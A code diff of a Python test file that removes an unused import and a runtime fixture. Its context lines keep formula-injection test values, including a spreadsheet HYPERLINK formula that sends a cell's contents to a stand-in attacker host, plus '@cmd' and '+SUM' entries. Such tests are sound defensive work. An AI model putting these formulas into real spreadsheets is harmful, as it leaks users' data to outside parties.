@@ -8,7 +8,6 @@ import csv
 import io
 import sqlite3
 import tempfile
-from collections.abc import Iterator
 from decimal import Decimal
 from pathlib import Path
 from typing import Any
@@ -19,7 +18,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
-from tests_support import STAFF, bearer, demo_runtime
+from tests_support import STAFF, bearer
 
 from agent.api import app as api
 from agent.cli.main import main
@@ -40,12 +39,6 @@ from agent.runtime import Runtime
 
 EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
 NAMES = [EVIL, "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR", "Ada Lovelace"]
-
-
-@pytest.fixture
-def rt(tmp_path: Path) -> Iterator[Runtime]:
-    with demo_runtime(tmp_path / "home") as runtime:
-        yield runtime
 
 
 def quick_links(rt: Runtime) -> None:
